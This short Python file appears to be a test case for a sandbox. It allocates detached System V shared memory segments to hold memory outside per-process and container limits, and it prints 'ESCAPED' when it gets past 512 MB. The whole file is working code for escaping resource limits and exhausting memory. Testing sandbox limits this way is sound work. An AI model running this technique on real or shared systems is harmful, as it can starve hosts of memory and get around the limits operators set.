# attack: memory in segments of System V that are not attached to any process
# expect: ok | out_of_memory
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
n = 0
for _ in range(64):
    segment = libc.shmget(0, 16 << 20, 0o1600)
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 16 << 20)
    libc.shmdt(address)
    n += 16
if n > 512:
    print("ESCAPED:", n, "MB outside of every limit")
